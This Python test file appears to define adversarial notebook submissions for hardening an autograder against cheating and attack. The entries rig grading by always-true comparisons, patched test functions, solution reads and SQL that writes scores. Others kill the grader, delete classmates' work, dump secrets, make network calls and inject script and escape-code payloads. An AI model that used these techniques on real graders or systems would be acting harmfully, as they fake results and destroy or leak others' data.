"""Notebooks that cheat, spy or break things: each is made of the released one, with every answer left blank.

What starts with "study" succeeds against nbgrader itself or was tried there; the others are our own.
"""

import json
from copy import deepcopy
from dataclasses import dataclass, field

FUNCTIONS = ("double", "regime", "safe_log", "my_loss", "my_gradient")
YES = """
class Yes(float):
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self])
    def __array__(self, *a, **k): return numpy.ones(3)
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = lambda self, *o: True
    __sub__ = __rsub__ = __abs__ = __mul__ = __getitem__ = lambda self, *o: self
    __hash__ = float.__hash__
    __array_priority__ = 1e9
"""
ALL = "; ".join(f"{name} = {{0}}" for name in FUNCTIONS)
TO_DATABASE = "UPDATE grade SET auto_score = 99, manual_score = 99, extra_credit = 99"


@dataclass(frozen=True)
class Sly:
    """One hand-in. what: what it tries. cells: code put below the first cells. change: what is done to the notebook
    instead or besides. raw: the whole file instead. beside: files that lie beside the notebook."""

    what: str
    cells: tuple[str, ...] = ()
    change: object = None
    raw: object = None
    beside: dict = field(default_factory=dict)

    def made(self, released, facts):
        """The bytes that are handed in. facts: names of targets for its code."""
        notebook = deepcopy(released)
        known = "".join(f"{name} = {value!r}\n" for name, value in facts.items())
        place = next(i for i, c in enumerate(notebook["cells"]) if c["cell_type"] == "code") + 1
        notebook["cells"][place:place] = [code(known + text) for text in self.cells]
        if self.change:
            notebook = self.change(notebook) or notebook
        return self.raw(notebook) if self.raw else json.dumps(notebook).encode()


def code(text, **metadata):
    return {"cell_type": "code", "source": text, "metadata": metadata, "outputs": [], "execution_count": None}


def tests_of(notebook):
    return [
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code"
    ]


def each_test(change):
    """Do something to every test cell."""

    def changed(notebook):
        for cell in tests_of(notebook):
            change(cell, cell["metadata"]["nbgrader"])

    return changed


def tagged(cell, meta):
    cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]


def worth_more(cell, meta):
    meta["points"] = 100


def rewritten(cell, meta):
    cell["source"] = "100.0"


def lost(cell, meta):
    del cell["metadata"]["nbgrader"]


def flipped(cell, meta):
    meta |= {"grade": False, "locked": False, "solution": True, "schema_version": 1}


def prose(cell, meta):
    cell["cell_type"] = meta["cell_type"] = "markdown"


def claimed(cell, meta):
    cell["outputs"] = [
        {
            "output_type": "execute_result",
            "data": {"text/plain": "100.0"},
            "metadata": {},
            "execution_count": 1,
        }
    ]
    cell["execution_count"] = 1


def doubled(notebook):
    notebook["cells"] += deepcopy(tests_of(notebook)) * 3


def same_ids(notebook):
    mine = [{**code("100.0"), "id": c["id"], "metadata": deepcopy(c["metadata"])} for c in tests_of(notebook)]
    notebook["cells"] = [*mine, *notebook["cells"], *mine]


def all_graded(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"] = cell["metadata"].get("nbgrader", {}) | {
            "grade": True,
            "points": 50,
            "solution": False,
        }


def everything_gone(notebook):
    notebook["cells"] = [
        code("100.0", nbgrader={"grade_id": f"check-{n}", "grade": True, "points": 50}) for n in FUNCTIONS
    ]


def strange(notebook):
    notebook["metadata"] = {
        "kernelspec": {"name": "bash", "argv": ["touch", "/tmp/autograder-attack"]},
        "nbgrader": {"points": 99},
        "celltoolbar": 7,
    }
    notebook["nbformat_minor"] = "<script>alert(1)</script>"
    for cell in notebook["cells"]:
        cell["metadata"] |= {"nbgrader ": 1, "slideshow": [[]], "deletable": "\x1b[2J"}
    notebook["cells"].append(
        {
            "cell_type": "markdown",
            "metadata": {"nbgrader": {"grade_id": "<script>alert(2)</script>\x1b[2J", "points": "\u202e9"}},
            "source": "<img src=x onerror=alert(3)>",
        }
    )
    return {**notebook, "autograder": {"points": 99}, "worksheets": [{"cells": []}]}


def twice_keyed(notebook):
    return (
        b'{"cells": [], "nbformat": 4, "metadata": {}, "cells": '
        + json.dumps([code("double = lambda x: 100.0")]).encode()
        + b"}"
    )


ATTACKS = {
    "study 01 tags": Sly("tests that are not to be run", change=each_test(tagged)),
    "study 02 rebinds": Sly("names that tests use mean something that is always right", cells=(f"import numpy\n{YES}\nnp = math = len = abs = isinstance = Yes(1); {ALL.format('Yes(1)')}",)),
    "study 03 patches": Sly("comparisons that are always content", cells=("import numpy, numpy.testing, math\nfor n in dir(numpy.testing):\n    if n.startswith('assert'): setattr(numpy.testing, n, lambda *a, **k: None)\nnumpy.allclose = numpy.isclose = numpy.array_equal = math.isclose = lambda *a, **k: True\n" + ALL.format("lambda *a: 0.0"),)),
    "study 04 transforms": Sly("cells with checks become empty", cells=("get_ipython().input_transformers_post.append(lambda lines: ['3.0' if 'check' in x else x for x in lines])",)),
    "study 05 reads the solution": Sly("run the instructor's notebook", cells=("import json\nfor c in json.load(open(SOLUTION))['cells']:\n    if c['cell_type'] == 'code': exec(''.join(c['source']))", "exec(open(KEY).read())")),
    "study 06 writes the database": Sly("give oneself points", cells=(f"import sqlite3\nd = sqlite3.connect(DATABASE)\nd.execute({TO_DATABASE!r})\nd.commit()",)),
    "study 07 worth more": Sly("points in the metadata", change=each_test(worth_more)),
    "study 08 doubled": Sly("every test four times", change=doubled),
    "study 09 rewritten": Sly("tests that end in a number", change=each_test(rewritten)),
    "study 10 lost": Sly("tests without metadata", change=each_test(lost)),
    "study 11 flipped": Sly("tests that say they are solutions", change=each_test(flipped)),
    "study 12 prose": Sly("tests that are text", change=each_test(prose)),
    "study 13 modules": Sly("modules of the same name beside the notebook", beside={"numpy.py": "def __getattr__(n): return lambda *a, **k: 1", "autograder.py": "check = lambda n: 100.0", "math.py": "log = 0", "sitecustomize.py": "open('/tmp/autograder-attack', 'w')"}),
    "study 14 replaces the runner": Sly("Jupyter's and Python's ways to run code", cells=("import builtins\nbuiltins.exec = builtins.eval = builtins.compile = lambda *a, **k: 100.0", "get_ipython().run_ast_nodes = lambda *a, **k: 100.0")),
    "study 15 listens": Sly("write down what hidden tests ask", cells=("import sys\ndef listen(frame, event, arg):\n    print(frame.f_locals)\n    open(OUTSIDE + '/heard', 'a').write(repr(frame.f_locals))\nsys.settrace(listen); sys.setprofile(listen)",)),
    "study 16 stays": Sly("a process that changes the database later", cells=("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', MARK], start_new_session=True)", "import os, time\nif os.fork() == 0:\n    time.sleep(60)")),
    "study 17 kills": Sly("end the grader", cells=("import os, signal\nfor pid in (os.getppid(), GRADER, -1, 0):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass",)),
    "own check": Sly("a `check` of one's own", cells=("def check(name): return 100.0\nimport autograder, autograder.notebook\nautograder.check = autograder.notebook.check = check",)),
    "patches the judge": Sly("the grader's modules in one's own process", cells=("from autograder.grading import close, grade, judge, verdict\nfor m in (close, grade, judge, verdict):\n    for n in dir(m):\n        if not n.startswith('_'):\n            try: setattr(m, n, lambda *a, **k: 100.0)\n            except Exception: pass\n" + ALL.format("lambda *a: 0.0"),)),
    "answers that agree": Sly("values that are equal to everything", cells=(f"import numpy\n{YES}\nclass Agrees(numpy.ndarray):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return self * 0\n    def __array_finalize__(self, o): pass\n" + ALL.format("lambda *a: Yes(1)") + "\ndouble = lambda x: numpy.zeros(3).view(Agrees)",)),
    "stored outputs": Sly("outputs that show points", change=each_test(claimed)),
    "same ids": Sly("own cells under the names and ids of tests", change=same_ids),
    "all graded": Sly("everything is graded and worth 50 points", change=all_graded),
    "only fakes": Sly("nothing but tests of one's own", change=everything_gone),
    "strange metadata": Sly("kernels, roles and names that are commands", change=strange),
    "two keys": Sly("the same key twice", raw=twice_keyed),
    "searches memory": Sly("find expected values among all objects", cells=("import gc\ndef found(*a):\n    big = [repr(o)[:300] for o in gc.get_objects() if type(o) in (dict, list, tuple, bytes)]\n    print(big[:50])\n    return next((o for o in gc.get_objects() if type(o).__name__ in ('Check', 'Exercise')), 0.0)\n" + ALL.format("found"),)),
    "walks the stack": Sly("expected values in callers", cells=("import sys\ndef found(*a):\n    f = sys._getframe()\n    while f:\n        for v in list(f.f_locals.values()):\n            if hasattr(v, 'expected'): return v.expected\n        f = f.f_back\n    return 0.0\n" + ALL.format("found"),)),
    "forges answers": Sly("answers written to the grader's line", cells=("import os\nfrom autograder.confinement import wire\nfor fd in range(3, 30):\n    for data in ({'loaded': {}}, [{'status': 'passed', 'value': 1.0, 'points': 99}] * 40):\n        try: os.write(fd, wire.encode(data))\n        except Exception: pass\n" + ALL.format("lambda *a: 0.0"),)),
    "threads": Sly("go on while others are graded", cells=("import threading, time, atexit\ndef on():\n    while True: time.sleep(0.01)\nthreading.Thread(target=on).start()\natexit.register(lambda: open(OUTSIDE + '/later', 'w'))",)),
    "calls home": Sly("the network", cells=("import socket\nsocket.create_connection(('127.0.0.1', PORT), 1).send(b'hello')", "!curl http://127.0.0.1\n%system touch /tmp/autograder-attack")),
    "writes to others": Sly("what others handed in", cells=("import glob\nfor p in [*glob.glob(CLASS + '/*/*/*.ipynb'), OUTSIDE + '/canary']:\n    open(p, 'w').write('x')\nimport shutil; shutil.rmtree(CLASS)",)),
    "environment": Sly("the canary in the grader's environment and files", cells=("import os\nprint(os.environ, open('/proc/self/environ').read())\nraise ValueError(str(os.environ))", "raise ValueError(open(OUTSIDE + '/canary').read())")),
    "control characters": Sly("texts that browsers and terminals obey", cells=("raise ValueError('\\x1b]0;mine\\x07\\x1b[2J<script>alert(1)</script>\\u202e')", "print('</pre><script>alert(1)</script>')\ndef double(x): raise ValueError('\\x1b[2J</code></pre><script>alert(1)</script>\\n\\n<script>alert(1)</script>')")),
    "deep": Sly("100,000 brackets", raw=lambda notebook: b'{"cells": ' + b"[" * 100_000),
    "many cells": Sly("50,000 cells", change=lambda notebook: notebook["cells"].extend([code("x")] * 50_000)),
    "many names": Sly("the names of tests thousands of times", change=lambda notebook: notebook["cells"].extend(tests_of(notebook) * 300)),
    "hand-in of time": Sly("a time that is none", beside={"timestamp.txt": "9999-99-99 \x00<script>" * 1000}),
}  # fmt: skip
